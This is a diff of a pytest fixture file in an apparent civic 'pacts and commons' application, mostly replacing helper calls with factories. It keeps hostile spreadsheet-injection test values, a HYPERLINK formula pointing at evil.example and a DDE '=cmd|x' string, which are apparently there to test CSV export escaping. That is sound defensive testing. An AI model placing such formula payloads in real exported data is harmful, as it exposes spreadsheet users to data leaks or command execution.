@@ -14,9 +14,11 @@ import pytest
 from cocity.commons.models import Commons
 from cocity.core.csvsafe import csv_cell
 from cocity.pacts import services
-from tests.commons.conftest import MOLE, add_commons
-from tests.factories import MunicipalityFactory, UserFactory, organisation
-from tests.pacts.helpers import Cast, proposal
+from cocity.pacts.models import Status
+from tests.accounts.factories import OrganisationFactory, UserFactory
+from tests.commons.factories import MOLE, CommonsFactory
+from tests.municipalities.factories import MunicipalityFactory
+from tests.pacts.factories import Cast, PactFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x","click")'
 DDE = "=cmd|x"
@@ -45,28 +47,27 @@ def hostile(torino):
     cast = Cast(torino)
     cast.category = services.category_create(municipality=torino, name=MINUS_CATEGORY)
     citizen = UserFactory(show_name_publicly=True, display_name=DDE)
-    pact = proposal(cast, citizen, title=HYPERLINK)
+    pact = PactFactory(cast=cast, proponent=citizen, title=HYPERLINK)
     pact = services.pact_transition(actor=citizen, pact=pact, action="submit")
     representative = UserFactory(show_name_publicly=False)
-    association = organisation(representative=representative, name=PLUS_ORG)
-    draft = services.pact_create_draft(
-        actor=representative,
-        municipality=torino,
-        title="Orto condiviso",
+    association = OrganisationFactory(representative=representative, name=PLUS_ORG)
+    PactFactory(
+        cast=cast,
+        status=Status.SUBMITTED,
+        proponent=representative,
         proponent_organisation=association,
-        commons=cast.commons,
-        category=cast.category,
-        objectives="Coltivare",
-        activities="Orto",
-        duration_months=12,
+        title="Orto condiviso",
     )
-    services.pact_transition(actor=representative, pact=draft, action="submit")
-    at_sum = add_commons(
-        torino, "Ex lavatoio", address=AT_SUM, owning_department=TAB_DEPARTMENT, point=MOLE
+    at_sum = CommonsFactory(
+        municipality=torino,
+        name="Ex lavatoio",
+        address=AT_SUM,
+        owning_department=TAB_DEPARTMENT,
+        point=MOLE,
     )
-    cr = add_commons(
-        torino,
-        "Piazzetta",
+    cr = CommonsFactory(
+        municipality=torino,
+        name="Piazzetta",
         kind=Commons.Kind.SQUARE_STREET,
         address="via Po 2",
         owning_department=CR_DEPARTMENT,
